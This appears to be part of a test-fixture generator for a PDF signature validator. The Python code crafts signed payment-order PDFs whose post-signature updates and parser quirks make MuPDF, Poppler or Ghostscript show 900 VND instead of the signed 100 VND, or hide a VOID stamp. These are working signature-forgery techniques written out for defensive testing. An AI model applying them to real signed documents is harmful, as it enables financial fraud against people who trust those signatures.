u1 = append(signed, [(14, sq_ap), (15, b'1'), (12, sq12)], b'/Size 16 /Root 1 0 R ' + IDS)
w12 = b'<< /FT /Sig /T (Sig2) /Type /Annot /Subtype /Widget /F 132 /Rect [0 0 0 0] /P 3 0 R >>'
u2 = append(u1, [(3, raw(signed, 3).replace(b'/Annots [ 8 0 R ]', b'/Annots [ 8 0 R 12 0 R ]')),
                 (7, raw(signed, 7).replace(b'/Fields [ 8 0 R ]', b'/Fields [ 8 0 R 12 0 R ]')), (12, w12)],
            b'/Size 16 /Root 1 0 R ' + IDS)
save('later-stream-s2.pdf', sign(u2, 'Sig2'))

AP100 = b'/Tx BMC BT /Helv 20 Tf 2 8 Td (Amount: 100 VND) Tj ET EMC'
na = {
    1: b'<< /Type /Catalog /Pages 2 0 R /AcroForm 6 0 R >>',
    2: b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    3: b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R '
       b'/Resources << /Font << /F1 5 0 R >> >> /Annots [10 0 R 12 0 R 13 0 R] >>',
    4: stream(b'BT /F1 20 Tf 60 700 Td (Payment order.) Tj ET'),
    5: HELV,
    6: b'<< /Fields [10 0 R 12 0 R 13 0 R] /DR << /Font << /Helv 5 0 R >> >> /DA (/Helv 12 Tf 0 g) /SigFlags 3 >>',
    10: b'<< /FT /Tx /T (amount) /V (Amount: 900 VND) /Ff 1 /Type /Annot /Subtype /Widget /Rect [60 600 400 630] '
        b'/P 3 0 R /F 4 /DA (/Helv 20 Tf 0 g) /AP << /N 11 0 R >> >>',
    11: stream(AP100, b'/Type /XObject /Subtype /Form /BBox [0 0 340 30] /Resources << /Font << /Helv 5 0 R >> >> '),
    12: b'<< /FT /Sig /T (Sig1) /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /P 3 0 R /F 132 >>',
    13: b'<< /FT /Sig /T (Sig2) /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /P 3 0 R /F 132 >>',
}
r0 = build(na)
r1 = append_xref_stream(r0, [(20, object_stream([(6, na[6][:-2] + b'/NeedAppearances true >>')]))],
                        {6: (2, 20, 0)}, b'/Root 1 0 R ' + IDS, 21)
r2 = append(r1, [], b'/Size 22 /Root 1 0 R ' + IDS, entries={6: r0.index(b'\n6 0 obj') + 1})
save('needappearances-s2.pdf', sign(sign(r2, 'Sig1'), 'Sig2'))

ce = dict(page)
ce[4] = b'<< /Length 9 0 R >>\nstream\nBT /F1 20 Tf 60 700 Td (Payment order. Draft) Tj ET\nendstream'
ce[9] = b'%d' % len(b'BT /F1 20 Tf 60 700 Td (Payment order. Draft) Tj ET')
ce_edit = append(build(ce), [(4, stream(b'BT /F1 20 Tf 60 700 Td (Payment order. Amount: 100 VND) Tj ET'))],
                 b'/Size 10 /Root 1 0 R ' + IDS)
save('content-edited-s2.pdf', sign(sign(ce_edit), 'Sig2'))


# Helper 205, against that rule: page content 4 rewritten after the signature with `endstream`
# run into its last operator (`…ETendstream`) and a stream drawing 900 VND after it — MuPDF's
# repair, reading 4's data with an earlier header's longer length, and Poppler's rebuild,
# reading to the next `endstream` word, drew it (run-in-endstream.pdf); a forged page whose
# dictionary kyso's parser refuses (a key given twice), its header in a string after the
# signature (unparsed-page.pdf).
L4 = b'BT /F1 20 Tf 60 700 Td (Payment order. Amount: 100 VND) Tj ET'
u1 = update_raw(signed, [(4, b'<< /Length %d >>\nstream\n' % len(L4) + L4 + b'\nendstreamendobj')],
                b'/Size 12 /Root 1 0 R ' + IDS)
save('run-in-endstream.pdf', update_raw(u1, [
    (4, b'<< /Length %d >>\nstream\n' % len(L4) + L4 + b'endstream\nendobj'),
    (11, stream(b'1 g 40 680 520 50 re f 0 g BT /F1 20 Tf 60 700 Td (Payment order. Amount: 900 VND) Tj ET')
     + b'\nendobj')], b'/Size 12 /Root 1 0 R ' + IDS))
u1 = update_raw(signed, [(99, FORGED_CONTENT + b'\nendobj'),
                         (20, b'[ 5 (\n3 0 obj\n' + s_forged[:-2] + b' /Foo 1 /Foo 2 /Length 0 >>\nstream\nxx\n'
                          b'endstream\nendobj\n) ]\nendobj')], T100)
save('unparsed-page.pdf', update_raw(u1, [(3, s_pg + b'\nendobj')], T100))


# Helper 208, against that: token-before-stream-s2.pdf (the preparer's history writes page 3 as
# `<< forged page >> /X stream`: MuPDF's repair reads over the name to `stream` and keeps that
# dictionary), endstream-split.pdf (after the signature, page content 4 written as signed with
# spaces that put `endstream` across byte 255 of its line, then a stream drawing 900 VND:
# Poppler's rebuild reads on into it), run-in-signed.pdf (the preparer's own content written
# `…ETendstream` over a history version with an indirect /Length, and after signing only a
# stream drawing 900 VND), longer-length.pdf (after the signature, content 4 written with an
# indirect /Length over longer data, then as signed: MuPDF's repair reads the final data with
# that length and drops the page's second content stream, "Status: REJECTED by the bank").
P100 = b'BT /F1 20 Tf 60 700 Td (Payment order. Amount: 100 VND) Tj ET'
COVER = stream(b'1 g 40 680 520 50 re f 0 g BT /F1 20 Tf 60 700 Td (Payment order. Amount: 900 VND) Tj ET')
tb = dict(page)
tb[3] = (page[3].replace(b'/Contents 4 0 R', b'/Contents 11 0 R')[:-2] + b'/Length 12 0 R >>'
         + b' /X stream\nxxxxxxxxxx\nendstream')
tb[11] = FORGED_CONTENT
tb[12] = b'10'
for k in range(6, 11):
    tb[k] = b'null'
tb1 = append(build(tb), [(3, page[3])], b'/Size 13 /Root 1 0 R ' + IDS)
save('token-before-stream-s2.pdf', sign(sign(tb1), 'Sig2'))

save('endstream-split.pdf', append(signed, [
    (4, b'<< /Length %d >>\nstream\n' % len(P100) + P100 + b' ' * (250 - len(P100)) + b'endstream'),
    (11, COVER)], b'/Size 12 /Root 1 0 R ' + IDS))

ri = dict(page)
ri[4] = b'<< /Length 6 0 R >>\nstream\n' + P100 + b' ' * 40 + b'\nendstream'
ri[6] = b'%d' % (len(P100) + 40)
ri_signed = sign(append(build(ri), [(4, b'<< /Length %d >>\nstream\n' % len(P100) + P100 + b'endstream')],
                        b'/Size 7 /Root 1 0 R ' + IDS))
n = last_xref(ri_signed)[1]
save('run-in-signed.pdf', append(ri_signed, [(n, COVER)], b'/Size %d /Root 1 0 R ' % (n + 1) + IDS))

ll = dict(page)
ll[3] = ll[3].replace(b'/Contents 4 0 R', b'/Contents [4 0 R 6 0 R]')
ll[6] = stream(b'BT /F1 20 Tf 60 650 Td (Status: REJECTED by the bank) Tj ET')
ll_signed = sign(build(ll))
n = last_xref(ll_signed)[1]
T = b'/Size %d /Root 1 0 R ' % (n + 1) + IDS
u1 = append(ll_signed, [(4, b'<< /Length %d 0 R >>\nstream\n' % n + P100 + b' ' * 300 + b'\nendstream'),
                        (n, b'%d' % (len(P100) + 300))], T)
save('longer-length.pdf', append(u1, [(4, stream(P100))], T))


# Helper 210: MuPDF takes a cross-reference stream as the object of its own number, over what
# its section lists. xrefstm-number.pdf: after the signature, a new signature field whose value
# is a stream (MuPDF takes any dictionary for a signature value and draws the widget's own
# appearance), its appearance object 12 a blank form in the classic table, while the trailer's
# /XRefStm is a cross-reference stream numbered 12 whose data draws 900 VND (MuPDF draws it);
# sig-value-stream.pdf: the same field and value with a plain appearance that draws nothing
# (the value, which kyso passed over, must be judged); xrefstm-content.pdf: the preparer's page
# content 4 carries /Type /XRef /Size /W /Index [] (ignored on a content stream), and after the
# signature an update lists 4 as signed while its /XRefStm is a `4 0 obj` drawing 900 VND.
prev, size = last_xref(signed)
assert size == 11, size
C900 = b'1 1 1 rg 50 690 500 40 re f 0 g BT /F1 20 Tf 60 700 Td (Payment order. Amount: 900 VND) Tj ET'
FD = (b'/Type /XRef /Size 14 /W [1 4 2] /Index [] /Subtype /Form /BBox [0 0 595 842] '
      b'/Resources << /Font << /F1 5 0 R >> >> ')
page3 = raw(signed, 3).replace(b'/Annots [ 8 0 R ]', b'/Annots [ 8 0 R 11 0 R ]')
form7 = raw(signed, 7).replace(b'/Fields [ 8 0 R ]', b'/Fields [ 8 0 R 11 0 R ]')
assert page3 != raw(signed, 3) and form7 != raw(signed, 7)
for name, xrefstm in [('xrefstm-number.pdf', True), ('sig-value-stream.pdf', False)]:
    out = bytearray(signed)
    offs = {}
    for n, body in [(11, b'<< /Type /Annot /Subtype /Widget /FT /Sig /T (Sig2) /V 13 0 R '
                         b'/Rect [0 0 595 842] /P 3 0 R /F 4 /AP << /N 12 0 R >> >>'),
                    (13, stream(b'x')), (7, form7), (3, page3)]:
        offs[n] = len(out)
        out += b'%d 0 obj\n' % n + body + b'\nendobj\n'
    X = len(out)
    if xrefstm:
        out += b'12 0 obj\n' + stream(C900, FD) + b'\nendobj\n'
    offs[12] = len(out)
    out += b'12 0 obj\n' + stream(b' ' * len(C900), FD) + b'\nendobj\n'
    x = len(out)
    out += b'xref\n' + b''.join(b'%d 1\n%010d 00000 n \n' % (n, offs[n]) for n in sorted(offs))
    out += (b'trailer\n<< /Size 14 /Root 1 0 R %s%s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n'
            % (IDS, b' /XRefStm %d' % X if xrefstm else b'', prev, x))
    save(name, bytes(out))

P100 = b'BT /F1 20 Tf 60 700 Td (Payment order. Amount: 100 VND) Tj ET'
XD = b'/Type /XRef /Size 6 /W [1 4 2] /Index [] '
xc = dict(page)
xc[4] = stream(P100, XD)
xc_signed = sign(build(xc))
prev, size = last_xref(xc_signed)
signed4 = raw(xc_signed, 4)
out = bytearray(xc_signed)
X = len(out)
out += b'4 0 obj\n' + stream(C900.replace(b'1 1 1 rg 50 690 500 40 re f 0 g ', b''), XD) + b'\nendobj\n'
Y = len(out)
out += b'4 0 obj\n' + signed4 + b'\nendobj\n'
x = len(out)
out += (b'xref\n4 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root 1 0 R %s /XRefStm %d /Prev %d >>\n'
        b'startxref\n%d\n%%%%EOF\n' % (Y, size, IDS, X, prev, x))
save('xrefstm-content.pdf', bytes(out))


# Helper 211, against that fix: xref-entry-type3.pdf, xref-entry-offset.pdf, xref-entry-gen.pdf
# (after the signature, an update that changes nothing, as a cross-reference stream whose last
# entry Poppler cannot read — type 3, a free entry's offset 2^64 - 1, its generation 2^31 — so
# Poppler reads nothing older, the signature and the page's "VOID" stamp gone; then a clean
# update); xrefstm-in-stream.pdf (a cross-reference stream's dictionary naming an /XRefStm that
# lists the page content at another version: Poppler and Ghostscript do not follow it);
# xrefstm-nested.pdf (an /XRefStm naming a classic table with an /XRefStm of its own, which only
# Poppler follows) — those three signed by pyHanko or unsigned, as kyso is to sign them;
# xrefstm-whole-unsigned.pdf (the preparer's /XRefStm numbered as the page content the table
# places elsewhere; the test signs it over the whole file with OpenSSL).
C2 = b'BT /F1 24 Tf 60 640 Td (TRANG THAI: DA HUY - VOID) Tj ET'
void = dict(page)
void[3] = page[3].replace(b'/Font << /F1 5 0 R >>', b'/Font << /F1 5 0 R >> /XObject << /X1 6 0 R >>')
void[4] = stream(P100 + b' /X1 Do')
void[6] = stream(C2, b'/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> ')
void_signed = sign(build(void))
prev, size = last_xref(void_signed)
offs = {n: [m.start() + 1 for m in re.finditer(rb'\n%d 0 obj' % n, void_signed)][-1] for n in range(1, 6)}
N1, N2 = size, size + 1
for variant, W, bad in [('type3', (1, 4, 2), (N2 + 1, 3, 0, 0)),
                        ('offset', (1, 8, 2), (N2 + 1, 0, 2**64 - 1, 0)),
                        ('gen', (1, 4, 4), (N2 + 1, 0, 0, 0x80000000)),
                        # (helper 214: object 0's own free entry, exempted by mistake)
                        ('gen0', (1, 4, 4), (0, 0, 0, 0x80000000))]:
    def xs(num, entries, sz, extra):
        rows = b''.join(t.to_bytes(W[0], 'big') + f2.to_bytes(W[1], 'big') + f3.to_bytes(W[2], 'big')
                        for (_, t, f2, f3) in entries)
        idx = b' '.join(b'%d 1' % n for (n, _, _, _) in entries)
        return b'%d 0 obj\n' % num + stream(rows, b'/Type /XRef /Size %d /W [%d %d %d] /Index [%s] %s'
                                            % ((sz,) + W + (idx, extra))) + b'\nendobj\n'
    out = bytearray(void_signed)
    U1 = len(out)
    out += xs(N1, [(n, 1, offs[n], 0) for n in range(1, 6)] + [(N1, 1, U1, 0), bad], N2 + 2,
              b'/Root 1 0 R %s /Prev %d ' % (IDS, prev))
    out += b'startxref\n%d\n%%%%EOF\n' % U1
    U2 = len(out)
    out += xs(N2, [(N2, 1, U2, 0)], N2 + 2, b'/Root 1 0 R %s /Prev %d ' % (IDS, U1))
    out += b'startxref\n%d\n%%%%EOF\n' % U2
    save('xref-entry-%s.pdf' % variant, bytes(out))


def xref_stream_obj(num, entries, size, extra=b''):
    rows = b''.join(bytes([t]) + f2.to_bytes(4, 'big') + f3.to_bytes(2, 'big') for (_, t, f2, f3) in entries)
    idx = b' '.join(b'%d 1' % n for (n, _, _, _) in entries)
    return (b'%d 0 obj\n' % num + stream(rows, b'/Type /XRef /Size %d /W [1 4 2] /Index [%s] %s' % (size, idx, extra))
            + b'\nendobj\n')


P900 = P100.replace(b'100 VND', b'900 VND')
base = dict(page)
base[4] = stream(P900)
base = build(base)
prev, size = last_xref(base)
out = bytearray(base)
P = len(out)
out += b'4 0 obj\n' + stream(P100) + b'\nendobj\n'
T = len(out)
out += xref_stream_obj(7, [(4, 1, P, 0), (7, 1, T, 0)], 8)
S = len(out)
out += xref_stream_obj(6, [(6, 1, S, 0)], 8, b'/Root 1 0 R %s /XRefStm %d /Prev %d ' % (IDS, T, prev))
out += b'startxref\n%d\n%%%%EOF\n' % S
save('xrefstm-in-stream-unsigned.pdf', bytes(out))

out = bytearray(base)
P = len(out)
out += b'4 0 obj\n' + stream(P100) + b'\nendobj\n'
B = len(out)  # the /XRefStm: a classic table, whose own trailer names one more
out += b'xref\n4 1\n%010d 00000 n \ntrailer\n<< /Size 6 /XRefStm %d >>\n' % (P, P)
A = len(out)
out += (b'xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 6 /Root 1 0 R %s /XRefStm %d /Prev %d >>\n'
        b'startxref\n%d\n%%%%EOF\n' % (IDS, B, prev, A))
save('xrefstm-nested-unsigned.pdf', bytes(out))

w = dict(page)
XD = b'/Type /XRef /Size 6 /W [1 4 2] /Index [] '
w[4] = stream(P100, XD)
wb = build(w)
prev, size = last_xref(wb)
out = bytearray(wb)
X = len(out)
out += b'4 0 obj\n' + stream(P900, XD) + b'\nendobj\n'
Y = len(out)
out += b'4 0 obj\n' + stream(P100, XD) + b'\nendobj\n'
x = len(out)
out += (b'xref\n4 1\n%010d 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R %s /XRefStm %d /Prev %d >>\n'
        b'startxref\n%d\n%%%%EOF\n' % (Y, IDS, X, prev, x))
save('xrefstm-whole-unsigned.pdf', bytes(out))
# (pyHanko refuses to sign it, "trailing data in cross-reference stream": the test certifies
# it with OpenSSL and a hand-written update, signing_inputs.py docmdp.)
